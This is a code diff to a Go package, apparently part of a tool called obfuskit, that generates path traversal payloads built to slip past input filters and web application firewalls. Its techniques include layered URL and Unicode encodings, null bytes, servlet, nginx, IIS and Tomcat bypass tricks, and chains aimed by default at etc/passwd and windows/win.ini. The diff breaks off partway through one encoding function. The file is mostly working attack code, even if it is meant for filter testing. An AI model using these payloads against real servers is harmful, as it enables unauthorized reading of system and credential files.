@@ -1,111 +1,379 @@
 package path
 
 import (
+	"context"
 	"fmt"
-	"math/rand"
 	"obfuskit/internal/evasions"
 	"obfuskit/types"
+	"regexp"
+	"slices"
 	"strings"
 )
 
+// DefaultMaxTraversalDepth is the deepest ../ chain produced by depth expansion
+const DefaultMaxTraversalDepth = 8
+
+type maxDepthKey struct{}
+
+// WithMaxTraversalDepth returns a copy of ctx capping the ../ depth used when
+// expanding traversal payloads. Values below 1 keep the default.
+func WithMaxTraversalDepth(ctx context.Context, depth int) context.Context {
+	if depth < 1 {
+		return ctx
+	}
+	return context.WithValue(ctx, maxDepthKey{}, depth)
+}
+
+// MaxTraversalDepth returns the depth expansion cap carried by ctx, or
+// DefaultMaxTraversalDepth if there is none
+func MaxTraversalDepth(ctx context.Context) int {
+	if depth, ok := ctx.Value(maxDepthKey{}).(int); ok {
+		return depth
+	}
+	return DefaultMaxTraversalDepth
+}
+
+// Customized reports whether ctx carries path settings that make variants
+// differ from those generated with the defaults
+func Customized(ctx context.Context) bool {
+	return MaxTraversalDepth(ctx) != DefaultMaxTraversalDepth || configuredTargetFile(ctx) != ""
+}
+
+// DefaultTargetFiles are the sensitive files traversal techniques aim at on
+// each OS, selected by passing the OS name to WithTargetFile
+var DefaultTargetFiles = map[string]string{
+	"unix":    "etc/passwd",
+	"linux":   "etc/passwd",
+	"windows": "windows/win.ini",
+}
+
+type targetFileKey struct{}
+
+// WithTargetFile returns a copy of ctx setting the sensitive file that
+// techniques assuming a target, such as environment_vars and symlink_based,
+// aim at, and that bare ../ payloads are pointed at: a path such as
+// "app/config.yml" or `C:\boot.ini`, or an OS name from DefaultTargetFiles.
+// "" keeps the Unix default.
+func WithTargetFile(ctx context.Context, file string) context.Context {
+	if osDefault, ok := DefaultTargetFiles[strings.ToLower(strings.TrimSpace(file))]; ok {
+		file = osDefault
+	}
+	file = strings.ReplaceAll(driveLetterPattern.ReplaceAllString(strings.TrimSpace(file), ""), `\`, "/")
+	file = strings.TrimLeft(file, "/")
+	if file == "" {
+		return ctx
+	}
+	return context.WithValue(ctx, targetFileKey{}, file)
+}
+
+// TargetFile returns the target file carried by ctx, or the Unix default
+func TargetFile(ctx context.Context) string {
+	if file := configuredTargetFile(ctx); file != "" {
+		return file
+	}
+	return DefaultTargetFiles["unix"]
+}
+
+// configuredTargetFile returns the target file set by WithTargetFile, or ""
+// when none is
+func configuredTargetFile(ctx context.Context) string {
+	file, _ := ctx.Value(targetFileKey{}).(string)
+	return file
+}
+
+// aimAtTarget points a bare traversal such as "../../" at the configured
+// target file; other paths, and every path when no target is configured, are
+// returned as they are
+func (g generator) aimAtTarget(path string) string {
+	file := g.target
+	if file == "" || !strings.Contains(path, "..") || strings.Trim(path, "./\\") != "" {
+		return path
+	}
+	separator := "/"
+	if strings.Contains(path, `\`) {
+		separator = `\`
+		file = strings.ReplaceAll(file, "/", `\`)
+	}
+	return strings.TrimRight(path, "/\\") + separator + file
+}
+
 // PathTraversalVariants generates various path traversal evasion techniques
 // based on the specified obfuscation level
 func PathTraversalVariants(path string, level types.EvasionLevel) []string {
-	var variants []string
-
-	// Safety function to catch panics in individual evasion functions
-	safeApply := func(fn func(string) string, input string) string {
-		defer func() {
-			if r := recover(); r != nil {
-				// Log the panic but don't crash
-				// Return the original input as fallback
-			}
-		}()
-		return fn(input)
+	return PathTraversalVariantsWithRand(evasions.DefaultRand, path, level)
+}
+
+// PathTraversalVariantsWithRand is PathTraversalVariants drawing randomness from rng
+func PathTraversalVariantsWithRand(rng evasions.Rand, path string, level types.EvasionLevel) []string {
+	return evasions.Values(PathTraversalVariantsExplained(rng, path, level))
+}
+
+// PathTraversalVariantsExplained is PathTraversalVariantsWithRand with each
+// variant labeled by the technique that produced it
+func PathTraversalVariantsExplained(rng evasions.Rand, path string, level types.EvasionLevel) []types.Variant {
+	return PathTraversalVariantsWithMode(rng, path, level, PickOne)
+}
+
+// Mode chooses what a technique with several alternatives (a list of
+// prefixes, stream names, representations of ..) emits
+type Mode int
+
+const (
+	// PickOne emits one randomly drawn alternative per technique, keeping the
+	// variant count independent of how many alternatives a technique lists
+	PickOne Mode = iota
+	// AllOptions emits every alternative, and enumerates the draws of the
+	// techniques that choose per character instead of making them (see
+	// evasions.EnumerateDraws), for reproducible coverage
+	AllOptions
+)
+
+// PathTraversalVariantsWithMode is PathTraversalVariantsExplained with the
+// alternatives of each technique chosen by mode
+func PathTraversalVariantsWithMode(rng evasions.Rand, path string, level types.EvasionLevel, mode Mode) []types.Variant {
+	return generator{rng: rng, mode: mode, maxDepth: DefaultMaxTraversalDepth}.variants(path, level)
+}
+
+// PathTraversalVariantsContext is PathTraversalVariantsExplained drawing from
+// the source carried by ctx, emitting every alternative when ctx asks for
+// exhaustive output, and using the settings ctx carries (see
+// WithMaxTraversalDepth and WithTargetFile)
+func PathTraversalVariantsContext(ctx context.Context, path string, level types.EvasionLevel) []types.Variant {
+	mode := PickOne
+	if evasions.Exhaustive(ctx) {
+		mode = AllOptions
+	}
+	return generator{
+		rng:      evasions.RandFrom(ctx),
+		mode:     mode,
+		maxDepth: MaxTraversalDepth(ctx),
+		target:   configuredTargetFile(ctx),
+	}.variants(path, level)
+}
+
+// generator is what one generation call draws on
+type generator struct {
+	rng      evasions.Rand
+	mode     Mode
+	maxDepth int
+	// target is the configured target file, "" when none is
+	target string
+}
+
+// targetFile returns the file techniques assuming a target aim at
+func (g generator) targetFile() string {
+	if g.target != "" {
+		return g.target
 	}
+	return DefaultTargetFiles["unix"]
+}
 
-	safeApplyMultiple := func(fn func(string) []string, input string) []string {
-		defer func() {
-			if r := recover(); r != nil {
-				// Return original input as fallback
-			}
-		}()
-		return fn(input)
-	}
-
-	// Basic evasion techniques with safety wrapper
-	variants = append(variants,
-		safeApply(dotSlashPrepend, path),            // Adding ./ prefixes
-		safeApply(dotSlashVarying, path),            // Varying ./ and ../
-		safeApply(doubleSlashPadding, path),         // Using // instead of /
-		safeApply(urlEncoding, path),                // Basic URL encoding
-		safeApply(mixedEncoding, path),              // Mixed case and encoding
-		safeApply(slashBackslashMix, path),          // Mixing / and \
-		safeApply(redundantDots, path),              // Adding redundant dots in paths
-		safeApply(caseVariation, path),              // Case variations where applicable
-		safeApply(nonReadableDirPaths, path),        // Using non-readable directories
-		safeApply(windowsAlternateStream, path),     // Windows alternate data stream syntax
-		safeApply(unicodeCombiningCharacters, path), // Unicode combining characters
-	)
+func (g generator) variants(path string, level types.EvasionLevel) []types.Variant {
+	var variants []types.Variant
+	path = g.aimAtTarget(path)
 
-	nullResults := safeApplyMultiple(nullByteInjection, path)
-	variants = append(variants, nullResults...)
+	// Basic evasion techniques
+	variants = append(variants, g.applyTechniques(path, basicTechniques)...)
 
 	// Return basic variants if level is Basic
 	if level == types.EvasionLevelBasic {
-		return evasions.UniqueStrings(variants)
+		return evasions.UniqueVariants(variants)
 	}
 
 	// Medium level adds more complex techniques
-	variants = append(variants,
-		safeApply(doubleUrlEncoding, path),       // Double URL encoding
-		safeApply(unicodeEncoding, path),         // Unicode encoding
-		safeApply(pathNormalization, path),       // Path normalization tricks
-		safeApply(selfReferencingDir, path),      // Using self-referencing directory
-		safeApply(repetitiveTraversal, path),     // Repetitive directory traversal
-		safeApply(environmentVarsInPath, path),   // Using environment variables
-		safeApply(directoryAliasing, path),       // Using directory aliases
-		safeApply(dotDotSeparation, path),        // Separating the dots in ../
-		safeApply(htmlEntityEncoding, path),      // HTML entity encoding
-		safeApply(multipleRepresentations, path), // Multiple character representations
-		safeApply(encodedBackslash, path),        // Encoded backslashes
-		safeApply(nestedEncoding, path),          // Nested encoding techniques
-		safeApply(javaServletBypass, path),       // Java servlet bypass techniques
-		safeApply(nginxOffBySlash, path),         // Nginx off-by-slash bypass
-		safeApply(phpNullByteAlternate, path),    // PHP null byte alternatives
-		safeApply(jspWebInfTraversal, path),      // JSP WEB-INF traversal
-	)
+	variants = append(variants, g.applyTechniques(path, mediumTechniques)...)
 
 	// Return medium variants if level is Medium
 	if level == types.EvasionLevelMedium {
-		return evasions.UniqueStrings(variants)
+		return evasions.UniqueVariants(variants)
 	}
 
 	// Advanced level adds the most complex evasion techniques
-	variants = append(variants,
-		safeApply(hexEncodedPath, path),            // Using hex encoding for path segments
-		safeApply(unicodeNormalization, path),      // Unicode normalization evasion
-		safeApply(percentUtf8Encoding, path),       // Percent-encoding UTF-8 sequences
-		safeApply(overLongUtf8, path),              // Over-long UTF-8 encoding
-		safeApply(nonStandardCharset, path),        // Non-standard charset encoding
-		safeApply(multiProtocolEvasion, path),      // Multiple protocol handlers
-		safeApply(fragmentIdentifiers, path),       // Using fragment identifiers
-		safeApply(parameterInjection, path),        // Parameter injection techniques
-		safeApply(mixedTraversalTechniques, path),  // Mixed traversal techniques
-		safeApply(symbolLinkBased, path),           // Symbolic link based techniques
-		safeApply(stackedEncodingLayers, path),     // Multiple stacked encoding layers
-		safeApply(iisBackslashTrick, path),         // IIS backslash/dot trick
-		safeApply(apacheMultiViewBypass, path),     // Apache MultiViews bypass
-		safeApply(tomcatBypass, path),              // Tomcat specific bypass techniques
-		safeApply(unicodeWidthAndDirection, path),  // Unicode width variation
-		safeApply(httpHeaderFilePath, path),        // HTTP header file path injection
-		safeApply(urlEncodedBackslashAtSign, path), // URL encoded backslash @ sign
-		safeApply(nonstandardEncoding, path),       // Non-standard encoding formats
-		safeApply(controlCharacterInjection, path), // Control character injection
-		safeApply(pathParameterConfusion, path),    // Path parameter confusion
+	variants = append(variants, g.applyTechniques(path, advancedTechniques)...)
+
+	return evasions.UniqueVariants(variants)
+}
+
+// technique is one labeled path transform
+type technique struct {
+	name        string
+	explanation string
+	apply       applyFunc
+}
+
+// applyFunc runs a transform, emitting its alternatives as g.mode says
+type applyFunc func(g generator, path string) []string
+
+// fixed, random and multiple adapt the transform shapes used in this file
+func fixed(fn func(string) string) applyFunc {
+	return func(_ generator, path string) []string { return []string{fn(path)} }
+}
+
+func random(fn func(evasions.Rand, string) string) applyFunc {
+	return func(g generator, path string) []string { return []string{fn(g.rng, path)} }
+}
+
+func multiple(fn func(string) []string) applyFunc {
+	return func(_ generator, path string) []string { return fn(path) }
+}
+
+// oneOrAll adapts a transform with alternatives: one draws a single
+// alternative, all returns every one
+func oneOrAll(one func(evasions.Rand, string) string, all func(evasions.Rand, string) []string) applyFunc {
+	return func(g generator, path string) []string {
+		if g.mode == AllOptions {
+			return all(g.rng, path)
+		}
+		return []string{one(g.rng, path)}
+	}
+}
+
+// oneOf adapts a transform that lists its alternatives (none when the path
+// does not suit it, which leaves the path unchanged under PickOne)
+func oneOf(options func(string) []string) applyFunc {
+	return oneOrAll(
+		func(rng evasions.Rand, path string) string { return pick(rng, path, options(path)) },
+		ignoreRand(options),
 	)
+}
+
+// targeted is oneOf for a transform whose alternatives depend on the target file
+func targeted(options func(target, path string) []string) applyFunc {
+	return func(g generator, path string) []string {
+		return oneOf(func(path string) []string { return options(g.targetFile(), path) })(g, path)
+	}
+}
+
+// ignoreRand adapts an alternatives list that needs no randomness
+func ignoreRand(fn func(string) []string) func(evasions.Rand, string) []string {
+	return func(_ evasions.Rand, path string) []string { return fn(path) }
+}
+
+// pick draws one of options, or returns path when there are none
+func pick(rng evasions.Rand, path string, options []string) string {
+	if len(options) == 0 {
+		return path
+	}
+	return options[rng.Intn(len(options))]
+}
+
+// applyTechniques runs each technique in order, skipping any that panic
+func (g generator) applyTechniques(path string, techniques []technique) []types.Variant {
+	var variants []types.Variant
+	for _, t := range techniques {
+		var values []string
+		if g.mode == AllOptions {
+			evasions.EnumerateDraws(func(rng evasions.Rand) {
+				enumerated := g
+				enumerated.rng = rng
+				values = append(values, safeApply(t.apply, enumerated, path)...)
+			})
+		} else {
+			values = safeApply(t.apply, g, path)
+		}
+		for _, value := range values {
+			variants = append(variants, types.Variant{
+				Value:       value,
+				Technique:   t.name,
+				Explanation: t.explanation,
+			})
+		}
+	}
+	return variants
+}
+
+func safeApply(fn applyFunc, g generator, path string) (values []string) {
+	defer func() {
+		if r := recover(); r != nil {
+			values = nil
+		}
+	}()
+	return fn(g, path)
+}
 
-	return evasions.UniqueStrings(variants)
+var basicTechniques = []technique{
+	{"dot_slash_prepend", "./ prefix that resolves to the same path", fixed(dotSlashPrepend)},
+	{"dot_slash_varying", "redundant ./ segments mixed into the ../ chain", random(dotSlashVarying)},
+	{"double_slash_padding", "doubled slashes that collapse during normalization", fixed(doubleSlashPadding)},
+	{"url_encoding", "randomly URL-encoded characters", random(urlEncoding)},
+	{"mixed_encoding", "mix of raw, URL-encoded and case-varied characters", random(mixedEncoding)},
+	{"slash_backslash_mix", "backslashes in place of some slashes", random(slashBackslashMix)},
+	{"redundant_dots", "extra dot segments that normalize away", random(redundantDots)},
+	{"case_variation", "case changes for case-insensitive file systems", random(caseVariation)},
+	{"non_readable_dirs", "current-directory /./ segments between parts", random(nonReadableDirPaths)},
+	{"windows_alternate_stream", "NTFS alternate data stream suffix", oneOf(windowsAlternateStreamOptions)},
+	{"unicode_combining", "Unicode combining characters attached to path characters", random(unicodeCombiningCharacters)},
+	{"null_byte", "null byte that truncates the path in older runtimes", multiple(nullByteInjection)},
+}
+
+var mediumTechniques = []technique{
+	{"double_url_encoding", "double URL-encoded dots and slashes", random(doubleUrlEncoding)},
+	{"unicode_encoding", "%u Unicode escapes for dots and slashes", random(unicodeEncoding)},
+	{"path_normalization", "extra segments that cancel out during normalization", random(pathNormalization)},
+	{"self_referencing_dir", "current-directory dots prepended to each ../", random(selfReferencingDir)},
+	{"repetitive_traversal", "redundant up-and-back detours such as ../x/..", random(repetitiveTraversal)},
+	{"environment_vars", "environment variable as the base directory", targeted(environmentVarsInPathOptions)},
+	{"directory_aliasing", "alias of a well-known directory", oneOf(directoryAliasingOptions)},
+	{"dot_dot_separation", "dots of ../ split by encoded or ignored characters", random(dotDotSeparation)},
+	{"html_entity_encoding", "HTML entities for dots and slashes", random(htmlEntityEncoding)},
+	{"multiple_representations", "several encodings of the same character in one path", oneOrAll(multipleRepresentations, ignoreRand(multipleRepresentationsOptions))},
+	{"encoded_backslash", "URL-encoded backslash separators", random(encodedBackslash)},
+	{"nested_encoding", "encodings nested inside other encodings", random(nestedEncoding)},
+	{"java_servlet_bypass", "servlet path parameters such as ..;/", oneOf(javaServletBypassOptions)},
+	{"nginx_off_by_slash", "alias off-by-slash traversal", oneOf(nginxOffBySlashOptions)},
+	{"php_null_byte_alternate", "null byte variants or long-string truncation", oneOrAll(phpNullByteAlternate, ignoreRand(phpNullByteAlternateOptions))},
+	{"jsp_web_inf", "traversal into WEB-INF", oneOf(jspWebInfTraversalOptions)},
+	// Re-emit the payload at every traversal depth up to the configured cap
+	{"traversal_depth", "same target at a different ../ depth", func(g generator, p string) []string {
+		return TraversalDepthVariants(p, g.maxDepth)
+	}},
+}
+
+var advancedTechniques = []technique{
+	{"hex_encoded_path", "hex escapes for path characters", random(hexEncodedPath)},
+	{"unicode_normalization", "combining marks and look-alike Unicode dots", random(unicodeNormalization)},
+	{"percent_utf8", "percent-encoded UTF-8 byte sequences", random(percentUtf8Encoding)},
+	{"overlong_utf8", "overlong UTF-8 encodings of dots and slashes", random(overLongUtf8)},
+	{"non_standard_charset", "invalid or unusual UTF-8 bytes after ..", oneOf(nonStandardCharsetOptions)},
+	{"multi_protocol", "file:// or other protocol handler prefix", oneOrAll(multiProtocolEvasion, ignoreRand(multiProtocolEvasionOptions))},
+	{"fragment_identifiers", "# fragments inserted around path segments", random(fragmentIdentifiers)},
+	{"parameter_injection", "query or ; path parameters added to the path", random(parameterInjection)},
+	{"mixed_traversal", "two or three stacked transforms plus a null byte", oneOrAll(mixedTraversalTechniques, mixedTraversalTechniquesOptions)},
+	{"symlink_based", "detour through commonly symlinked directories", targeted(symbolLinkBasedOptions)},
+	{"stacked_encoding", "several encoding layers applied in sequence", random(stackedEncodingLayers)},
+	{"iis_backslash", "IIS backslash and trailing dot tricks", oneOf(iisBackslashTrickOptions)},
+	{"apache_multiviews", "Apache MultiViews extension guessing", oneOf(apacheMultiViewBypassOptions)},
+	{"tomcat_bypass", "Tomcat path parameter normalization", oneOf(tomcatBypassOptions)},
+	{"unicode_width", "direction marks and fullwidth dots around ..", random(unicodeWidthAndDirection)},
+	{"http_header_file_path", "file: scheme, web root or encoded traversal prefix", oneOf(httpHeaderFilePathOptions)},
+	{"encoded_backslash_at", "encoded backslash with @ to confuse URL parsing", oneOf(urlEncodedBackslashAtSignOptions)},
+	{"nonstandard_encoding", "mixed non-standard encodings of slashes and dots", random(nonstandardEncoding)},
+	{"control_characters", "control characters inside the path", random(controlCharacterInjection)},
+	{"path_parameter_confusion", "..;param= path parameters", random(pathParameterConfusion)},
+}
+
+var leadingTraversalPattern = regexp.MustCompile(`^(?:\./|\.\./|\.\.\\)*\.\.[/\\]`)
+
+// TraversalDepthVariants expands a payload with a leading ../ (or ..\) chain
+// into one variant per depth from 1 to maxDepth, keeping the original separator.
+// Payloads without a leading traversal sequence produce no variants.
+func TraversalDepthVariants(path string, maxDepth int) []string {
+	prefix := leadingTraversalPattern.FindString(path)
+	if prefix == "" || maxDepth < 1 {
+		return nil
+	}
+
+	separator := "/"
+	if strings.HasSuffix(prefix, `\`) {
+		separator = `\`
+	}
+	rest := strings.TrimLeft(path[len(prefix):], `/\`)
+
+	variants := make([]string, 0, maxDepth)
+	for depth := 1; depth <= maxDepth; depth++ {
+		variants = append(variants, strings.Repeat(".."+separator, depth)+rest)
+	}
+	return variants
 }
 
 // Basic evasion techniques
@@ -115,7 +383,7 @@ func dotSlashPrepend(path string) string {
 	return "./" + path
 }
 
-func dotSlashVarying(path string) string {
+func dotSlashVarying(rng evasions.Rand, path string) string {
 	parts := strings.Split(path, "/")
 	result := ""
 
@@ -125,13 +393,13 @@ func dotSlashVarying(path string) string {
 		}
 
 		if part == ".." {
-			if rand.Intn(2) == 0 {
+			if rng.Intn(2) == 0 {
 				result += "./.."
 			} else {
 				result += part
 			}
 		} else if part != "" {
-			if rand.Intn(3) == 0 {
+			if rng.Intn(3) == 0 {
 				result += "./" + part
 			} else {
 				result += part
@@ -147,7 +415,7 @@ func doubleSlashPadding(path string) string {
 	return strings.ReplaceAll(path, "/", "//")
 }
 
-func urlEncoding(path string) string {
+func urlEncoding(rng evasions.Rand, path string) string {
 	parts := strings.Split(path, "/")
 	result := ""
 
@@ -163,7 +431,7 @@ func urlEncoding(path string) string {
 			// URL encode only some characters
 			encoded := ""
 			for _, c := range part {
-				if rand.Intn(3) == 0 {
+				if rng.Intn(3) == 0 {
 					encoded += fmt.Sprintf("%%%02x", c)
 				} else {
 					encoded += string(c)
@@ -176,7 +444,7 @@ func urlEncoding(path string) string {
 	return result
 }
 
-func mixedEncoding(path string) string {
+func mixedEncoding(rng evasions.Rand, path string) string {
 	parts := strings.Split(path, "/")
 	result := ""
 
@@ -193,14 +461,14 @@ func mixedEncoding(path string) string {
 				"%2E%2E",
 				"%2e%2e",
 			}
-			result += options[rand.Intn(len(options))]
+			result += options[rng.Intn(len(options))]
 		} else if part != "" {
 			// Also encode parts of the path
 			encoded := ""
 			for _, c := range part {
-				if rand.Intn(4) == 0 {
+				if rng.Intn(4) == 0 {
 					encoded += fmt.Sprintf("%%%02X", c) // Uppercase hex
-				} else if rand.Intn(3) == 0 {
+				} else if rng.Intn(3) == 0 {
 					encoded += fmt.Sprintf("%%%02x", c) // Lowercase hex
 				} else {
 					encoded += string(c)
@@ -213,10 +481,10 @@ func mixedEncoding(path string) string {
 	return result
 }
 
-func slashBackslashMix(path string) string {
+func slashBackslashMix(rng evasions.Rand, path string) string {
 	result := ""
 	for _, c := range path {
-		if c == '/' && rand.Intn(2) == 0 {
+		if c == '/' && rng.Intn(2) == 0 {
 			result += "\\"
 		} else {
 			result += string(c)
@@ -239,7 +507,7 @@ func nullByteInjection(path string) []string {
 	return options
 }
 
-func redundantDots(path string) string {
+func redundantDots(rng evasions.Rand, path string) string {
 	parts := strings.Split(path, "/")
 	result := ""
 
@@ -256,10 +524,10 @@ func redundantDots(path string) string {
 				".....",  // Five dots
 				"......", // Six dots
 			}
-			result += options[rand.Intn(len(options))]
+			result += options[rng.Intn(len(options))]
 		} else if part != "" {
 			// Also potentially modify normal parts
-			if rand.Intn(5) == 0 && !strings.Contains(part, ".") {
+			if rng.Intn(5) == 0 && !strings.Contains(part, ".") {
 				result += part + "." // Add trailing dot
 			} else {
 				result += part
@@ -270,14 +538,14 @@ func redundantDots(path string) string {
 	return result
 }
 
-func caseVariation(path string) string {
+func caseVariation(rng evasions.Rand, path string) string {
 	// Change case for characters in the path
 	// Most effective on Windows systems that are case-insensitive
 	result := ""
 	for _, c := range path {
-		if (c >= 'a' && c <= 'z') && rand.Intn(2) == 0 {
+		if (c >= 'a' && c <= 'z') && rng.Intn(2) == 0 {
 			result += strings.ToUpper(string(c))
-		} else if (c >= 'A' && c <= 'Z') && rand.Intn(2) == 0 {
+		} else if (c >= 'A' && c <= 'Z') && rng.Intn(2) == 0 {
 			result += strings.ToLower(string(c))
 		} else {
 			result += string(c)
@@ -286,7 +554,7 @@ func caseVariation(path string) string {
 	return result
 }
 
-func nonReadableDirPaths(path string) string {
+func nonReadableDirPaths(rng evasions.Rand, path string) string {
 	// Insert non-readable directory references (such as /./), which get normalized
 	parts := strings.Split(path, "/")
 	result := ""
@@ -300,8 +568,8 @@ func nonReadableDirPaths(path string) string {
 				"/.",    // Current dir without trailing slash
 			}
 
-			if rand.Intn(3) == 0 {
-				result += options[rand.Intn(len(options))]
+			if rng.Intn(3) == 0 {
+				result += options[rng.Intn(len(options))]
 			} else {
 				result += "/"
 			}
@@ -313,14 +581,14 @@ func nonReadableDirPaths(path string) string {
 	return result
 }
 
-func windowsAlternateStream(path string) string {
+func windowsAlternateStreamOptions(path string) []string {
 	// Windows NTFS alternate data streams syntax - often overlooked by filters
 	// Format: filename:streamname
 
 	// Get filename part
 	parts := strings.Split(path, "/")
 	if len(parts) < 1 {
-		return path
+		return nil
 	}
 
 	filename := parts[len(parts)-1]
@@ -334,10 +602,14 @@ func windowsAlternateStream(path string) string {
 	}
 
 	// Append alternate data stream syntax
-	return prefix + filename + streams[rand.Intn(len(streams))]
+	options := make([]string, len(streams))
+	for i, stream := range streams {
+		options[i] = prefix + filename + stream
+	}
+	return options
 }
 
-func unicodeCombiningCharacters(path string) string {
+func unicodeCombiningCharacters(rng evasions.Rand, path string) string {
 	// Use Unicode combining characters to obfuscate path components
 	parts := strings.Split(path, "/")
 	result := ""
@@ -356,13 +628,13 @@ func unicodeCombiningCharacters(path string) string {
 			for _, c := range part {
 				encoded += string(c)
 				// Randomly add a combining character
-				if rand.Intn(5) == 0 {
+				if rng.Intn(5) == 0 {
 					combiningChars := []string{
 						"\u0301", // Combining acute accent
 						"\u0307", // Combining dot above
 						"\u0308", // Combining diaeresis
 					}
-					encoded += combiningChars[rand.Intn(len(combiningChars))]
+					encoded += combiningChars[rng.Intn(len(combiningChars))]
 				}
 			}
 			result += encoded
@@ -374,14 +646,14 @@ func unicodeCombiningCharacters(path string) string {
 
 // Medium evasion techniques
 
-func doubleUrlEncoding(path string) string {
+func doubleUrlEncoding(rng evasions.Rand, path string) string {
 	parts := strings.Split(path, "/")
 	result := ""
 
 	for i, part := range parts {
 		if i > 0 {
 			// Also sometimes double-encode the slash
-			if rand.Intn(3) == 0 {
+			if rng.Intn(3) == 0 {
 				result += "%252f"
 			} else {
 				result += "/"
@@ -396,12 +668,12 @@ func doubleUrlEncoding(path string) string {
 				"%252e%252E",
 				"%252E%252e",
 			}
-			result += options[rand.Intn(len(options))]
+			result += options[rng.Intn(len(options))]
 		} else if part != "" {
 			// Double encode parts of the path
 			encoded := ""
 			for _, c := range part {
-				if rand.Intn(3) == 0 {
+				if rng.Intn(3) == 0 {
 					encoded += fmt.Sprintf("%%25%02x", c)
 				} else {
 					encoded += string(c)
@@ -414,13 +686,13 @@ func doubleUrlEncoding(path string) string {
 	return result
 }
 
-func unicodeEncoding(path string) string {
+func unicodeEncoding(rng evasions.Rand, path string) string {
 	parts := strings.Split(path, "/")
 	result := ""
 
 	for i, part := range parts {
 		if i > 0 {
-			if rand.Intn(3) == 0 {
+			if rng.Intn(3) == 0 {
 				// Unicode encode forward slash
 				result += "%u002f"
 			} else {
@@ -436,12 +708,12 @@ func unicodeEncoding(path string) string {
 				"%u00ae",       // Unicode registered sign that might get normalized
 				"\u2024\u2024", // One dot leader character
 			}
-			result += options[rand.Intn(len(options))]
+			result += options[rng.Intn(len(options))]
 		} else if part != "" {
 			// Unicode encode parts of the path
 			encoded := ""
 			for _, c := range part {
-				if rand.Intn(3) == 0 && c < 127 {
+				if rng.Intn(3) == 0 && c < 127 {
 					encoded += fmt.Sprintf("%%u%04x", c)
 				} else {
 					encoded += string(c)
@@ -454,7 +726,7 @@ func unicodeEncoding(path string) string {
 	return result
 }
 
-func pathNormalization(path string) string {
+func pathNormalization(rng evasions.Rand, path string) string {
 	parts := strings.Split(path, "/")
 	result := ""
 
@@ -471,10 +743,10 @@ func pathNormalization(path string) string {
 				"../abc/../def/./..", // More complex normalization scenario
 				"../test/../../",     // Navigate up, into folder, then back up two levels
 			}
-			result += options[rand.Intn(len(options))]
+			result += options[rng.Intn(len(options))]
 		} else if part != "" {
 			// Sometimes insert normalization patterns in regular parts too
-			if rand.Intn(4) == 0 {
+			if rng.Intn(4) == 0 {
 				result += "./" + part + "/."
 			} else {
 				result += part
@@ -485,7 +757,7 @@ func pathNormalization(path string) string {
 	return result
 }
 
-func selfReferencingDir(path string) string {
+func selfReferencingDir(rng evasions.Rand, path string) string {
 	parts := strings.Split(path, "/")
 	result := ""
 
@@ -502,7 +774,7 @@ func selfReferencingDir(path string) string {
 				"./././.", // Multiple references to current directory
 				".",       // Single current directory reference
 			}
-			result += options[rand.Intn(len(options))] + part
+			result += options[rng.Intn(len(options))] + part
 		} else if part != "" {
 			result += part
 		}
@@ -511,7 +783,7 @@ func selfReferencingDir(path string) string {
 	return result
 }
 
-func repetitiveTraversal(path string) string {
+func repetitiveTraversal(rng evasions.Rand, path string) string {
 	parts := strings.Split(path, "/")
 	result := ""
 
@@ -530,7 +802,7 @@ func repetitiveTraversal(path string) string {
 				"../temp/../",
 				"../dir1/dir2/../../", // Go up, then into nested dirs, then back up twice
 			}
-			result += patterns[rand.Intn(len(patterns))]
+			result += patterns[rng.Intn(len(patterns))]
 		} else if part != "" {
 			result += part
 		}
@@ -539,19 +811,19 @@ func repetitiveTraversal(path string) string {
 	return result
 }
 
-func environmentVarsInPath(path string) string {
+func environmentVarsInPathOptions(target, path string) []string {
 	// Use environment variables to construct part of the path
 	// This works in many systems that expand environment variables
 
-	if strings.Contains(path, "etc/passwd") {
+	if strings.Contains(path, target) {
 		envVars := []string{
-			"${HOME}/../../../etc/passwd",
-			"${DOCUMENT_ROOT}/../../etc/passwd",
-			"${USER_DIR}/../../../etc/passwd",
-			"${SYSTEMROOT}/../../../etc/passwd",
-			"%SYSTEMROOT%\\..\\..\\..\\etc\\passwd", // Windows style
+			"${HOME}/../../../" + target,
+			"${DOCUMENT_ROOT}/../../" + target,
+			"${USER_DIR}/../../../" + target,
+			"${SYSTEMROOT}/../../../" + target,
+			"%SYSTEMROOT%\\..\\..\\..\\" + strings.ReplaceAll(target, "/", "\\"), // Windows style
 		}
-		return envVars[rand.Intn(len(envVars))]
+		return envVars
 	} else if strings.Contains(path, "etc") {
 		// Safe split with bounds checking
 		parts := strings.Split(path, "etc/")
@@ -567,7 +839,7 @@ func environmentVarsInPath(path string) string {
 			"${SYSTEMROOT}/../../../etc/" + base,
 			"%SYSTEMROOT%\\..\\..\\..\\etc\\" + strings.ReplaceAll(base, "/", "\\"), // Windows style
 		}
-		return envVars[rand.Intn(len(envVars))]
+		return envVars
 	}
 
 	// Generic environment variable substitution
@@ -577,10 +849,10 @@ func environmentVarsInPath(path string) string {
 		"${PWD}/" + path,
 		"%USERPROFILE%\\" + strings.ReplaceAll(path, "/", "\\"), // Windows style
 	}
-	return envVars[rand.Intn(len(envVars))]
+	return envVars
 }
 
-func directoryAliasing(path string) string {
+func directoryAliasingOptions(path string) []string {
 	// Use directory aliases like ~ for /home/user
 	// This works because many systems resolve these aliases before security checks
 
@@ -591,10 +863,10 @@ func directoryAliasing(path string) string {
 		"./../" + strings.TrimPrefix(path, "../"), // Current directory then up
 	}
 
-	return aliases[rand.Intn(len(aliases))]
+	return aliases
 }
 
-func dotDotSeparation(path string) string {
+func dotDotSeparation(rng evasions.Rand, path string) string {
 	parts := strings.Split(path, "/")
 	result := ""
 
@@ -617,7 +889,7 @@ func dotDotSeparation(path string) string {
 				".\t.",  // Literal tab character
 				". .",   // Literal space
 			}
-			result += options[rand.Intn(len(options))]
+			result += options[rng.Intn(len(options))]
 		} else if part != "" {
 			result += part
 		}
@@ -626,7 +898,7 @@ func dotDotSeparation(path string) string {
 	return result
 }
 
-func htmlEntityEncoding(path string) string {
+func htmlEntityEncoding(rng evasions.Rand, path string) string {
 	parts := strings.Split(path, "/")
 	result := ""
 
@@ -640,7 +912,7 @@ func htmlEntityEncoding(path string) string {
 				"&#x02F;", // Leading zero hex
 				"/",       // Plain slash
 			}
-			result += options[rand.Intn(len(options))]
+			result += options[rng.Intn(len(options))]
 		}
 
 		if part == ".." {
@@ -651,13 +923,13 @@ func htmlEntityEncoding(path string) string {
 				"&#046;&#046;",   // Leading zero decimal
 				"&#x02E;&#x02E;", // Leading zero hex
 			}
-			result += options[rand.Intn(len(options))]
+			result += options[rng.Intn(len(options))]
 		} else if part != "" {
 			encoded := ""
 			for _, c := range part {
-				if rand.Intn(3) == 0 {
+				if rng.Intn(3) == 0 {
 					// Mix decimal and hex encoding randomly
